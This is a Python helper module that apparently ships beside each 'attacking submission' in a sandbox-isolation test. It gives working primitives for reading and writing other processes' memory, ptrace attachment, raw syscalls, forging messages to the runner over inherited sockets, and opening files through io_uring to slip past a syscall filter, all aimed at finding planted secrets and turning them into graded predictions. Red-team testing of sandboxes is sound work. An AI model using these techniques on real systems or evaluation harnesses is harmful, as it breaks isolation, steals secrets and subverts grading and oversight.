"""What every attacker brings: copied into each attacking submission as a module beside it.

``T`` says where things are and what the secrets look like: what an attacker can find out.
"""

# ruff: noqa: F401  (an attack takes all of it by `import *`)
from __future__ import annotations

import array
import contextlib
import ctypes
import fcntl
import glob
import json
import mmap
import os
import platform
import re
import resource
import shutil
import signal
import socket
import stat
import struct
import subprocess
import sys
import threading
import time
from pathlib import Path
from types import SimpleNamespace

import numpy as np

HERE = Path(__file__).parent
WORK = Path.cwd().parent if Path.cwd().name == "tmp" else Path.cwd()
"""The working folder of the cell: a step may write in one below it."""
T = SimpleNamespace(**json.loads((HERE / "targets.json").read_text()))


class _Library(ctypes.CDLL):
    """The C library; a model that mentions it can be pickled."""

    def __init__(self):
        super().__init__(None, use_errno=True)

    def __reduce__(self):
        return _Library, ()


LIBC = _Library()
_ARM = platform.machine() == "aarch64"
NUMBERS = {
    "add_key": 217 if _ARM else 248,
    "keyctl": 219 if _ARM else 250,
    "shmget": 194 if _ARM else 29,
    "msgget": 186 if _ARM else 68,
    "semget": 190 if _ARM else 64,
    "semctl": 191 if _ARM else 66,
    "mq_open": 180 if _ARM else 240,
    "mq_timedsend": 182 if _ARM else 242,
    "mq_timedreceive": 183 if _ARM else 243,
    "mq_unlink": 181 if _ARM else 241,
    "tgkill": 131 if _ARM else 234,
    "rt_sigqueueinfo": 138 if _ARM else 129,
    "ioprio_set": 30 if _ARM else 251,
    "clone": 220 if _ARM else 56,
    "pidfd_send_signal": 424,
    "io_uring_setup": 425,
    "io_uring_enter": 426,
    "pidfd_open": 434,
    "pidfd_getfd": 438,
}


def secret_in(content):
    """Return the secret number in bytes or text, 0 if there is none."""
    text = content.encode("utf-8", "surrogateescape") if isinstance(content, str) else content
    match = re.search(rb"secret-(\d{10})", bytes(text))
    return float(match.group(1)) if match else 0.0


def as_predictions(found, n_rows):
    """Return what was found as predictions: an array as far as it goes, or one number."""
    if isinstance(found, (bytes, bytearray, str)):
        found = secret_in(found)
    return np.resize(np.asarray(found, dtype=np.float64), n_rows)


def call(name, *arguments):
    """Make a system call by its number."""
    words = [ctypes.c_long(a) if isinstance(a, int) else a for a in arguments]
    answer = LIBC.syscall(NUMBERS[name], *words)
    if answer < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return answer


def libc(name, *arguments):
    """Call a function of the C library."""
    function = getattr(LIBC, name)
    function.restype = ctypes.c_long
    answer = function(*(ctypes.c_long(a) if isinstance(a, int) else a for a in arguments))
    if answer in (-1, 0xFFFFFFFF):
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return answer


class _Span(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


def read_memory(pid, address, length):
    """Read another process's memory by process_vm_readv."""
    buffer = ctypes.create_string_buffer(length)
    mine = _Span(ctypes.addressof(buffer), length)
    theirs = _Span(address, length)
    libc("process_vm_readv", pid, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0)
    return buffer.raw


def write_memory(pid, address, content):
    """Write into another process's memory by process_vm_writev."""
    buffer = ctypes.create_string_buffer(content, len(content))
    mine = _Span(ctypes.addressof(buffer), len(content))
    theirs = _Span(address, len(content))
    libc("process_vm_writev", pid, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0)


def traced(pid, work):
    """Attach to a process as a debugger, do `work`, and let it go on."""
    libc("ptrace", 16, pid, 0, 0)
    try:
        os.waitpid(pid, 0x40000000)
        return work()
    finally:
        LIBC.ptrace(17, pid, 0, 0)


def peek(pid, address, length):
    """Read memory of a process that is traced, word by word."""
    LIBC.ptrace.restype = ctypes.c_long
    found = b""
    while len(found) < length:
        word = LIBC.ptrace(2, pid, ctypes.c_void_p(address + len(found)), None)
        found += struct.pack("<q", word)
    return found[:length]


def child_of(parent, but=()):
    """Return the first child of a process that is not in `but`: the preloaded process."""
    for task in os.listdir(f"/proc/{parent}/task"):
        for pid in map(int, Path(f"/proc/{parent}/task/{task}/children").read_text().split()):
            if pid not in (*but, os.getpid()):
                return pid
    raise ProcessLookupError("no other child")


def preloader():
    """Return the preloaded process from which this one was split off."""
    return child_of(os.getppid())


def wait_until(ask):
    """Ask until the answer is true or time is over; errors count as no answer."""
    end = time.monotonic() + T.patience
    while time.monotonic() < end:
        try:
            if answer := ask():
                return answer
        except (OSError, ValueError, LookupError, EOFError):
            pass  # EOFError: a file that is being written
        time.sleep(0.02)
    return 0


def linger(share=1.0):
    """Stay as it is until it was seen from outside: for this share of the patience."""
    time.sleep(share * T.patience)


def stay():
    """Stay until a limit is kept; where none is, until it was seen."""
    linger(0.375) if T.naive else time.sleep(600)


def sockets_of_ours():
    """Return the sockets that this process has inherited."""
    found = []
    for fd in map(int, os.listdir("/proc/self/fd")):
        with contextlib.suppress(OSError):
            if fd > 2 and stat.S_ISSOCK(os.fstat(fd).st_mode):
                found.append(fd)
    return sorted(found)


def forge(fd, header, content=b""):
    """Write a message as the runner would."""
    text = header if isinstance(header, bytes) else json.dumps(header).encode()
    os.write(fd, struct.pack("<Q", len(text)) + text + content)


def open_by_ring(path):
    """Open a file by io_uring: no system call that a filter of system calls would see."""
    parameters = ctypes.create_string_buffer(120)
    ring = call("io_uring_setup", 4, parameters)
    entries = struct.unpack_from("<10I", parameters.raw, 0)
    sq = struct.unpack_from("<10I", parameters.raw, 40)
    cq = struct.unpack_from("<10I", parameters.raw, 80)
    submission = mmap.mmap(ring, sq[6] + entries[0] * 4 + 64, offset=0)
    queue = mmap.mmap(ring, entries[0] * 64, offset=0x10000000)
    completion = mmap.mmap(ring, cq[5] + entries[1] * 16 + 64, offset=0x8000000)
    name = ctypes.create_string_buffer(os.fsencode(path))
    queue[0:64] = struct.pack(
        "<BBHiQQIIQ24x", 18, 0, 0, -100, 0, ctypes.addressof(name), 0, os.O_RDONLY, 7
    )
    submission[sq[6] : sq[6] + 4] = struct.pack("<I", 0)
    tail = struct.unpack_from("<I", submission, sq[1])[0]
    submission[sq[1] : sq[1] + 4] = struct.pack("<I", tail + 1)
    call("io_uring_enter", ring, 1, 1, 1, None, 0)
    head = struct.unpack_from("<I", completion, cq[0])[0]
    result = struct.unpack_from("<Qi", completion, cq[5] + (head % entries[1]) * 16)[1]
    if result < 0:
        raise OSError(-result, os.strerror(-result))
    return result
